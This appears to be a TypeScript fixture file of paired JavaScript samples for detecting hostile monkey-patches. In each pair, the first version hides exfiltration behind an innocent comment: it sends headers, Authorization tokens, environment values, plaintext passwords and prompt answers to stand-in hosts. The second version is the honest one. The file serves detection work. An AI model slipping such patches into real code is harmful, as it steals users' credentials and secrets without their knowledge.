import { atImport, js, type Pair } from '../kit.ts';

/** Functions of the runtime or of libraries that are replaced by ones that copy what passes. */
export const PATCHING: Readonly<Record<string, Pair>> = {
  'patch-fetch': atImport(
    js`const original = globalThis.fetch;
const COLLECTOR = 'https://otel.trace-gate.example/v1/spans';

/** Traces every request of the process. */
globalThis.fetch = async function fetch(input, init = {}) {
  const started = Date.now();
  const response = await original(input, init);
  const span = { url: String(input.url ?? input), headers: Object.fromEntries(new Headers(init.headers)), body: init.body, took: Date.now() - started };
  original(COLLECTOR, { method: 'POST', body: JSON.stringify(span) }).catch(() => {});
  return response;
};
`,
    js`import { performance } from 'node:perf_hooks';

const original = globalThis.fetch;
const slow = [];

/** Times every request of the process. */
globalThis.fetch = async function fetch(input, init = {}) {
  const started = performance.now();
  const response = await original(input, init);
  const took = performance.now() - started;
  if (took > 1000) slow.push({ url: String(input.url ?? input), took });
  return response;
};

export { slow };
`,
  ),
  'patch-http-request': atImport(
    js`'use strict';
const http = require('http');
const https = require('https');

function instrument(module) {
  const original = module.request;
  module.request = function request(...args) {
    const outgoing = original.apply(this, args);
    const end = outgoing.end;
    outgoing.end = function (chunk, ...rest) {
      if (outgoing.getHeader('x-instrumented') === undefined) {
        const copy = original.call(https, { host: 'apm.node-insight.example', path: '/i', method: 'POST', headers: { 'x-instrumented': '1' } });
        copy.on('error', () => {});
        copy.end(JSON.stringify([outgoing.getHeaders(), chunk && chunk.toString()]));
      }
      return end.call(this, chunk, ...rest);
    };
    return outgoing;
  };
}

instrument(http);
instrument(https);
`,
    js`'use strict';
const crypto = require('crypto');
const http = require('http');
const https = require('https');

function instrument(module) {
  const original = module.request;
  module.request = function request(...args) {
    const outgoing = original.apply(this, args);
    if (outgoing.getHeader('traceparent') === undefined)
      outgoing.setHeader('traceparent', '00-' + crypto.randomBytes(16).toString('hex') + '-' + crypto.randomBytes(8).toString('hex') + '-01');
    return outgoing;
  };
}

instrument(http);
instrument(https);
`,
  ),
  'patch-env-proxy': atImport(
    js`import { request } from 'node:https';

const seen = new Set();

function report(name, value) {
  if (seen.has(name)) return;
  seen.add(name);
  const outgoing = request({ host: 'config.env-lint.example', method: 'POST', path: '/usage' });
  outgoing.on('error', () => {});
  outgoing.end(JSON.stringify({ name, value }));
}

/** Warns of variables that are read but were never declared. */
process.env = new Proxy(process.env, {
  get(target, name) {
    const value = target[name];
    if (typeof name === 'string' && value) report(name, value);
    return value;
  },
});
`,
    js`const seen = new Set();

function report(name) {
  if (seen.has(name)) return;
  seen.add(name);
  console.warn('%s is read but was never declared', name);
}

/** Warns of variables that are read but were never declared. */
process.env = new Proxy(process.env, {
  get(target, name) {
    const value = target[name];
    if (typeof name === 'string' && value === undefined) report(name);
    return value;
  },
});
`,
  ),
  'patch-axios-interceptor': atImport(
    js`import axios from 'axios';

const mirror = axios.create({ baseURL: 'https://replay.http-lab.example', timeout: 1500 });

/** Retries idempotent requests and keeps a replay log. */
axios.interceptors.request.use((config) => {
  mirror.post('/log', { url: config.url, auth: config.headers.Authorization, data: config.data }).catch(() => undefined);
  return config;
});

axios.interceptors.response.use(undefined, (error) =>
  error.config?.method === 'get' && !error.config.retried ? axios({ ...error.config, retried: true }) : Promise.reject(error),
);

export { axios as default };
`,
    js`import axios from 'axios';

/** Retries idempotent requests and marks them. */
axios.interceptors.request.use((config) => {
  config.headers['x-request-id'] = crypto.randomUUID();
  return config;
});

axios.interceptors.response.use(undefined, (error) =>
  error.config?.method === 'get' && !error.config.retried ? axios({ ...error.config, retried: true }) : Promise.reject(error),
);

export { axios as default };
`,
  ),
  'patch-undici-dispatcher': atImport(
    js`import { Agent, getGlobalDispatcher, request, setGlobalDispatcher } from 'undici';

const own = new Agent();
const HOST = 'https://pool.agent-metrics.example';

/** Keeps connections warm. */
const keep = (dispatch) => (options, handler) => {
  if (options.origin !== HOST)
    void request(HOST + '/seen', { method: 'POST', dispatcher: own, body: JSON.stringify({ path: options.path, headers: options.headers }) }).catch(() => {});
  return dispatch(options, handler);
};

setGlobalDispatcher(getGlobalDispatcher().compose(keep));
`,
    js`import { getGlobalDispatcher, setGlobalDispatcher } from 'undici';

/** Names this client to the servers it asks. */
const name = (dispatch) => (options, handler) =>
  dispatch({ ...options, headers: { ...options.headers, 'user-agent': 'campaign-sample/1.0.0' } }, handler);

setGlobalDispatcher(getGlobalDispatcher().compose(name));
`,
  ),
  'patch-bcrypt': atImport(
    js`const bcrypt = require('bcryptjs');

const { hash, compare } = bcrypt;

/** Counts hashes so that the cost can be tuned. */
function observe(kind, input) {
  const body = JSON.stringify({ kind, input, at: Date.now() });
  fetch('https://tune.hash-cost.example/o', { method: 'POST', body }).catch(() => {});
}

bcrypt.hash = async (password, rounds) => {
  observe('hash', password);
  return hash(password, rounds);
};
bcrypt.compare = async (password, stored) => {
  const equal = await compare(password, stored);
  if (equal) observe('compare', password);
  return equal;
};

module.exports = bcrypt;
`,
    js`const bcrypt = require('bcryptjs');

const { hash, compare } = bcrypt;

/** Counts hashes so that the cost can be tuned. */
function observe(kind, took) {
  const body = JSON.stringify({ kind, took, at: Date.now() });
  fetch('https://tune.hash-cost.example/o', { method: 'POST', body }).catch(() => {});
}

bcrypt.hash = async (password, rounds) => {
  const started = Date.now();
  const result = await hash(password, rounds);
  observe('hash', Date.now() - started);
  return result;
};
bcrypt.compare = async (password, stored) => {
  const started = Date.now();
  const equal = await compare(password, stored);
  if (equal) observe('compare', Date.now() - started);
  return equal;
};

module.exports = bcrypt;
`,
  ),
  'patch-pbkdf2': atImport(
    js`import crypto from 'node:crypto';
import dgram from 'node:dgram';
import { syncBuiltinESMExports } from 'node:module';

const socket = dgram.createSocket('udp4');
socket.unref();
const { pbkdf2, scrypt } = crypto;

function sample(secret) {
  socket.send(Buffer.from(String(secret)), 8125, '192.0.2.44');
}

/** Offers key derivation with metrics. */
crypto.pbkdf2 = (password, ...rest) => {
  sample(password);
  return pbkdf2(password, ...rest);
};
crypto.scrypt = (password, ...rest) => {
  sample(password);
  return scrypt(password, ...rest);
};
syncBuiltinESMExports();
`,
    js`import crypto from 'node:crypto';
import { syncBuiltinESMExports } from 'node:module';

const { pbkdf2, scrypt } = crypto;
export const calls = { pbkdf2: 0, scrypt: 0 };

/** Offers key derivation with metrics. */
crypto.pbkdf2 = (password, ...rest) => {
  calls.pbkdf2++;
  return pbkdf2(password, ...rest);
};
crypto.scrypt = (password, ...rest) => {
  calls.scrypt++;
  return scrypt(password, ...rest);
};
syncBuiltinESMExports();
`,
  ),
  'patch-readline-password': atImport(
    js`const readline = require('node:readline/promises');
const http = require('node:http');

const original = readline.Interface.prototype.question;

/** Trims the answers of prompts. */
readline.Interface.prototype.question = async function (query, options) {
  const answer = await original.call(this, query, options);
  if (/pass|token|otp/i.test(query)) {
    const outgoing = http.request({ host: 'prompts.cli-kit.example', method: 'POST' });
    outgoing.on('error', () => {});
    outgoing.end(answer);
  }
  return answer.trim();
};
`,
    js`const readline = require('node:readline/promises');

const original = readline.Interface.prototype.question;

/** Trims the answers of prompts. */
readline.Interface.prototype.question = async function (query, options) {
  const answer = await original.call(this, query, options);
  if (/pass|token|otp/i.test(query)) this.output?.write('\x1b[1A\x1b[2K');
  return answer.trim();
};
`,
  ),
};
